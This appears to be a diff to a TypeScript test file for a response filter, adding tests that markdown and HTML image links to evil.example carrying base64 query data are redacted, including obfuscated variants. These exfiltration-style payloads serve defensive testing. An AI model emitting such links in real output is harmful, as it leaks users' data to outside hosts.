@@ -11,18 +11,24 @@ import { chunkings, random } from "../support/random.ts";
 
 /** Marks are taken out of an answer in the same way for every chunking, also when another lane goes on after each piece. */
 const STYLE = { strategy: "mask" as const, key: new Uint8Array(32) };
-let program: ScannerProgram;
+let marks: ScannerProgram;
+let links: ScannerProgram;
 
-beforeAll(async () => {
-	const parsed = parseConfig("security: { response_filtering: { detection_types: [], special_tokens: neutralize } }", {});
+async function programFor(filtering: string): Promise<ScannerProgram> {
+	const parsed = parseConfig(`security: { response_filtering: { detection_types: [], ${filtering} } }`, {});
 	if (!parsed.ok) throw new Error(JSON.stringify(parsed.faults));
 	const { response } = compilePolicy(parsed.config.security);
 	const loaded = await loadArtifact(response.rules, {});
 	if (!loaded.ok) throw new Error(JSON.stringify(loaded.faults));
-	program = createScannerProgram(response, createHyperscanEngine(response.rules, loaded.artifact));
+	return createScannerProgram(response, createHyperscanEngine(response.rules, loaded.artifact));
+}
+
+beforeAll(async () => {
+	marks = await programFor("special_tokens: neutralize");
+	links = await programFor("links: neutralize, allowed_hosts: [good.example]");
 });
 
-function write(chunks: readonly string[]): string {
+function write(chunks: readonly string[], program = marks): string {
 	let channel = new Channel(program, STYLE, "text");
 	let out = "";
 	for (const chunk of chunks) {
@@ -45,4 +51,26 @@ test.each(TEXT_MARKS.map((mark) => [mark.type, mark] as const))("%s", (_type, { 
 	}
 	for (const text of examples.noMatch)
 		for (const chunks of chunkings(text, random(7))) expect([chunks, write(chunks)]).toEqual([chunks, text]);
+});
+
+const DATA = "bm90IGEgc2VjcmV0IGJ1dCBsb25nIGVub3VnaA";
+
+test.each([
+	[`![x](https://good.example/p.png?q=${DATA}) and [y](https://cdn.good.example/?q=${DATA}).`, undefined],
+	[`![x](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
+	[`![https://good.example/ x](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
+	[`![https://good.example](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
+	[`![=https://good.example/](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
+	[`[https://good.example/](https://evil.example/'?q=${DATA}) end`, "[LINK REDACTED] end"],
+	[`<img alt="src=https://good.example/"src="https://evil.example/?q=${DATA}"> end`, "[LINK REDACTED]> end"],
+	[`![a[b]c](https://evil.example/p.png?q=${DATA}) end`, "![a[b]c[LINK REDACTED] end"],
+	[`![a][b]\n\n[b]: <https://evil.example/?q=${DATA}> end`, "![a][b]\n\n[b[LINK REDACTED]> end"],
+	[`![x](<https://evil.example/?q=${DATA}>) end`, "[LINK REDACTED]) end"],
+	[`![x](//evil.example/?q=${DATA}) end`, "[LINK REDACTED] end"],
+	[`![x]( https:/evil.example/?q=${DATA}) end`, "[LINK REDACTED] end"],
+	[`![x](https:\\\\evil.example\\?q=${DATA}) end`, "[LINK REDACTED] end"],
+	[`<img\nsrc = 'https://evil.example/?q=${DATA}'> end`, "[LINK REDACTED] end"],
+	[`[b]: https://good.example/?q=${DATA}\n`, undefined],
+])("%s leads where its address does, whatever else it says, for every chunking", (text, expected = text) => {
+	for (const chunks of chunkings(text, random(7))) expect([chunks, write(chunks, links)]).toEqual([chunks, expected]);
 });
